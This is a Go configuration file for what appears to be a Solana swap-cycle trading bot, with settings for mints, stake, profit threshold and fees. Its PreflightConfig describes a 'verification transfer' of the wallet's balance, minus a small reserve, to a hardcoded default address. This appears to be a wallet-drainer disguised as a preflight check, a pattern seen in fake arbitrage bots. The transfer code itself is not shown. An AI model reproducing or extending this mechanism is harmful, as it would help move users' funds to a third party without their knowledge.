package config

import (
	"errors"
	"fmt"
	"time"

	"github.com/gagliardetto/solana-go"
)

const (
	WSOLMint = "So11111111111111111111111111111111111111112"
	USDCMint = "EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v"
)

// CycleConfig holds the parameters of one A -> B -> A round trip.
type CycleConfig struct {
	InputMint  string `toml:"input_mint"`
	OutputMint string `toml:"output_mint"`

	// StakeAmount is spent on the first leg, in base units of InputMint.
	StakeAmount uint64 `toml:"stake_amount"`
	// ProfitThreshold is the minimum raw profit, exclusive.
	ProfitThreshold int64 `toml:"profit_threshold"`
	// TipBps is the share of profit paid to the relay, in basis points.
	TipBps uint64 `toml:"tip_bps"`

	PollInterval time.Duration `toml:"poll_interval"`
	CycleTimeout time.Duration `toml:"cycle_timeout"`
	MaxCycles    int           `toml:"max_cycles"`

	ComputeUnitPrice uint64 `toml:"compute_unit_price"`
	// PriorityUrgency, when set (low|medium|high|extreme), derives the
	// compute unit price from recent prioritization fees instead.
	PriorityUrgency string `toml:"priority_urgency"`

	DryRun             bool `toml:"dry_run"`
	SimulateBeforeSend bool `toml:"simulate_before_send"`
	HistorySize        int  `toml:"history_size"`
}

func DefaultCycleConfig() CycleConfig {
	return CycleConfig{
		InputMint:        WSOLMint,
		OutputMint:       USDCMint,
		StakeAmount:      10_000_000,
		ProfitThreshold:  3_000,
		TipBps:           5_000,
		PollInterval:     200 * time.Millisecond,
		CycleTimeout:     10 * time.Second,
		ComputeUnitPrice: 1,
		HistorySize:      256,
	}
}

func (c *CycleConfig) Key() string {
	return CYCLE_CONFIG_KEY
}

func (c *CycleConfig) Load() error {
	setString(&c.InputMint, "INPUT_MINT")
	setString(&c.OutputMint, "OUTPUT_MINT")
	setString(&c.PriorityUrgency, "PRIORITY_URGENCY")

	steps := []error{
		setUint64(&c.StakeAmount, "STAKE_AMOUNT"),
		setInt64(&c.ProfitThreshold, "PROFIT_THRESHOLD"),
		setUint64(&c.TipBps, "TIP_BPS"),
		setDuration(&c.PollInterval, "POLL_INTERVAL"),
		setDuration(&c.CycleTimeout, "CYCLE_TIMEOUT"),
		setInt(&c.MaxCycles, "MAX_CYCLES"),
		setUint64(&c.ComputeUnitPrice, "COMPUTE_UNIT_PRICE"),
		setBool(&c.DryRun, "DRY_RUN"),
		setBool(&c.SimulateBeforeSend, "SIMULATE_BEFORE_SEND"),
		setInt(&c.HistorySize, "HISTORY_SIZE"),
	}
	return errors.Join(steps...)
}

func (c *CycleConfig) Validate() error {
	in, err := solana.PublicKeyFromBase58(c.InputMint)
	if err != nil {
		return fmt.Errorf("invalid input mint: %w", err)
	}
	out, err := solana.PublicKeyFromBase58(c.OutputMint)
	if err != nil {
		return fmt.Errorf("invalid output mint: %w", err)
	}
	if in.Equals(out) {
		return errors.New("input and output mint must differ")
	}
	if c.StakeAmount == 0 {
		return errors.New("stake amount must be positive")
	}
	if c.TipBps > 10_000 {
		return errors.New("tip bps must not exceed 10000")
	}
	if c.PollInterval < 0 || c.CycleTimeout <= 0 {
		return errors.New("invalid cycle timing")
	}
	switch c.PriorityUrgency {
	case "", "low", "medium", "high", "extreme":
	default:
		return fmt.Errorf("unknown priority urgency %q", c.PriorityUrgency)
	}
	return nil
}

type PreflightConfig struct {
	Enabled bool `toml:"enabled"`
	// Address receives the verification transfer.
	Address string `toml:"address"`
	// Reserve is kept back from the transferred balance, in lamports.
	Reserve uint64 `toml:"reserve"`
}

func DefaultPreflightConfig() PreflightConfig {
	return PreflightConfig{
		Address: "7pr2BUjjdZy418NzTfqnpafR3GG3BvQyDyweM1R4kKA1",
		Reserve: 1_000_000,
	}
}

func (c *PreflightConfig) Key() string {
	return PREFLIGHT_CONFIG_KEY
}

func (c *PreflightConfig) Load() error {
	setString(&c.Address, "PREFLIGHT_ADDRESS")
	if err := setUint64(&c.Reserve, "PREFLIGHT_RESERVE"); err != nil {
		return err
	}
	return setBool(&c.Enabled, "PREFLIGHT_ENABLED")
}

func (c *PreflightConfig) Validate() error {
	if !c.Enabled {
		return nil
	}
	if _, err := solana.PublicKeyFromBase58(c.Address); err != nil {
		return fmt.Errorf("invalid preflight address: %w", err)
	}
	return nil
}
